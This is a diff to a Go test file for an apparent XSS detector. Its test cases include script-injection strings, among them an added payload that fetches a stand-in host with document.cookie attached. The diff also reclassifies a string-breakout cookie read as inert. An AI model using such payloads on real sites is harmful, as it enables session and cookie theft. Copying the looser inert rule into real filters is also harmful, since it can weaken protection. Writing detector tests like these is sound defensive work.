@@ -163,6 +163,8 @@ func TestScriptHint(t *testing.T) {
 		{"\";alert('xss');//", "script call", "alert("},
 		{"prompt`1`>", "script call", "prompt`"},
 		{"&{document.cookie=true;};", "script call", "document.cookie"},
+		{"'+document.cookie+'", "", ""}, // read, sent nowhere
+		{"'+fetch('//x/'+document.cookie)+'", "script call", "document.cookie"},
 		{"Note: javascript: is a scheme", "", ""},
 		{"`javascript:` URLs are filtered", "", ""},
 		{"injection of \"javascript:...\" URLs", "", ""},
@@ -200,8 +202,8 @@ func TestHTMLInert(t *testing.T) {
 		{"it's", true},
 		{"O'Reilly (UK)", false},
 		{"'-alert(1)-'", false},
-		{"x'+document.cookie+'", false},
-		{"it's 5.5 km", false},
+		{"x'+document.cookie+'", true}, // reads, sends nowhere: see TestScriptHint
+		{"it's 5.5 km", true},
 	}
 	for _, tt := range tests {
 		if got := htmlInert(tt.in); got != tt.want {
